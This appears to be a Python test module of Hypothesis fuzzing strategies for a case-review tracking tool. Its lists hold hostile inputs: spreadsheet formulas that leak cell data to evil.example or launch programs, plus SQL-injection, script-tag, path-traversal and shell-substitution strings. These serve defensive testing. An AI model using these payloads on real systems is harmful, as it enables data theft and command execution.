"""Values to try: the seed's names, hostile text (formulas, huge, odd characters) and hypothesis
strategies for each kind of value a parameter takes (refs, dates, agencies, statuses, numbers…)."""

from datetime import date

from hypothesis import strategies as st

AS_OF = "2014-04-30"
AGENCIES = ["Children's Social Care", "Metropolitan Police", "Barts Health", "Education"]
REFS = ["r1", "r2", "r3"]
STATUSES = ["not-started", "in-progress", "completed", "cancelled", "requested", "overdue", "received",
            "due", "met", "waiting"]
EVENT_KINDS = ["aware", "referral", "decision", "initiated", "tor-agreed", "author-appointed",
               "panel-meeting", "draft-received", "board-signoff", "published", "closed",
               "impact-reviewed", "notify:panel:incident", "notify:ofsted"]
RECIPIENTS = ["ofsted", "dfe", "panel", "secretary-of-state", "home-office"]
PURPOSES = ["incident", "decision", "not-initiated", "rapid-review", "pre-publication", "report"]
FIELDS = ["title", "subject", "framework", "scope-from", "scope-to", "author", "chair", "incident",
          "terms-of-reference"]
OUTPUT_SUFFIXES = [".xlsx", ".csv", ".docx", ".html", ".md", ".pdf", ".ics", ".eml", ".txt", ".json", ""]

# Text a spreadsheet would run as a formula, and other hostile cell and option values.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "'=already quoted",
    "=",
    "+",
    "-",
    "@",
]
HOSTILE_TEXT = INJECTIONS + [
    "", " ", "\t", "\n", "x" * 5000, "\u202eevil\u202c", "Ω≈ç√∫", "𝕏 emoji 🧒", "Robert'); DROP TABLE actions;--",
    "{{ 7*7 }}", "{% raw %}", "[[placeholder]]", "TODO", "TBC", "<script>alert(1)</script>",
    "../../etc/passwd", "C:\\Windows\\system32", "a:b", "line\nbreak", "\x00nul", "\x1b[31mred",
    "\\", "%s%s%s", "${HOME}", "$(id)", "`id`",
]


def is_formula_text(text):
    """Text that a spreadsheet would treat as a formula when a cell holds it as is."""
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")

# Strategies for values --------------------------------------------------------------------------

def mostly(good, bad, weight=4):
    """``good`` about ``weight`` times as often as ``bad``: most command lines should get far enough
    to reach the code behind the argument checks."""
    # Hypothesis leans towards the ends of a range (0 and the maximum): bad sits in the middle.
    return st.integers(0, weight).flatmap(lambda i: bad if i == weight // 2 + 1 else good)


junk = st.sampled_from(HOSTILE_TEXT) | st.text(max_size=40)
words = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=30)
plain_text = st.sampled_from(["Child F", "Jane Author", "A note", "Recommendation wording", "Mother",
                              "Parallel criminal proceedings", "Police", "something"]) | words


def _day(d):
    return d.strftime("%Y-%m-%d")


date_text = st.one_of(
    st.dates(min_value=date(2011, 1, 1), max_value=date(2014, 4, 30)).map(_day),
    st.dates(min_value=date(2011, 1, 1), max_value=date(2014, 4, 30)).map(_day),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2015, 12, 31)).map(_day),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2014, 4, 30)).map(lambda d: f"{d.day}/{d.month}/{d.year}"),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2014, 4, 30)).map(lambda d: f"{d.day}.{d.month}.{d.year % 100:02d}"),
    st.dates(min_value=date(2008, 1, 1), max_value=date(2014, 4, 30)).map(lambda d: d.strftime("%d %B %Y")),
    st.dates().map(_day),
    st.sampled_from(["31/02/2013", "2013-13-01", "0/0/0", "March 2013", "2013", "yesterday", "1e9",
                     "9999-12-31", "0001-01-01", "29/2/2013", "29/2/2012", "32 Jan 2013", "3rd Marchh 2013",
                     "2014-04-30", "2014-05-01", "  2013-01-01  ", "2013-1-1", "-1", ""]),
    junk,
)
ref_text = mostly(st.sampled_from(REFS), st.sampled_from(
    ["r9", "R1", "../r1", "/etc", "", " r1", "r1 ", "a" * 65, "-r1", "r1/../r2", "nul", "con", "r_1", "é"]
) | junk, 6)
agency_text = mostly(st.sampled_from(AGENCIES + ["csc", "  metropolitan   POLICE ", "Unknown Agency"]), junk)
status_text = mostly(st.sampled_from(STATUSES), junk)
kind_text = mostly(st.sampled_from(EVENT_KINDS + ["scr", "learning", "strategy-meeting"]), junk)
record_text = mostly(st.sampled_from(["e1", "e2", "e3", "e4", "p1", "r1", "r2", "e99", "x1", "e", "1", "e-1", "E1"]), junk)
action_id_text = mostly(
    st.sampled_from(["r1:1", "r1:2", "r1:1", "r1:2", "r2:1", "r1:9", "r1:0", "r1:-1"]),
    st.sampled_from(["r1:", ":1", "r1:1:1", "r1", "1", "r1:01", "r1:1.0"]) | junk,
)
label_text = mostly(st.sampled_from(["1", "2a", "3", "10"]), junk)
number_text = mostly(st.integers(-5, 400).map(str), st.sampled_from(["0", "1e3", "ten", "", "99999999999999999999"]) | junk)
recipient_text = mostly(st.sampled_from(RECIPIENTS), junk)
purpose_text = mostly(st.sampled_from(PURPOSES), junk)
field_text = mostly(st.sampled_from(FIELDS), junk)
relation_text = mostly(st.sampled_from(["became", "parallel", "joint"]), junk)
name_text = mostly(st.sampled_from(["Jane Realname", "John Smith", "Kelly", "O'Brien"]), junk)
new_ref_text = st.sampled_from(["r4", "2013-child-x", "r1"])
review_kind_text = st.sampled_from(["scr", "thematic", "rapid", "lcspr", "dhr", "learning"])
framework_text = st.sampled_from(["wt2013", "wt2015", "wt2018", "wt2023", "dhr2016", "none", "no-such"])
